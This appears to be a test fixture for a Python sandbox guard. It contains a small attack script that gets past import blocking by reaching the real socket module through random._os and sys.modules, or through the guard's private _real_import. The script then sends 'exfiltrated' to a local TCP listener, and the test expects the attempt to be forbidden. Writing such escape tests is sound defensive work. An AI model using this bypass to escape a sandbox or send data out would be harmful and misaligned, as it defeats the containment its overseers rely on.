# attack: import the real socket module through sys.modules and create_connection
# expect: forbidden
# must-not: listener

import random

os = random._os

socket = os.sys.modules.get("socket") or os.sys.modules["hessgpt.sandbox.guard"]._real_import("socket")
socket.create_connection(("127.0.0.1", __TCP_PORT__), timeout=1).sendall(b"exfiltrated")
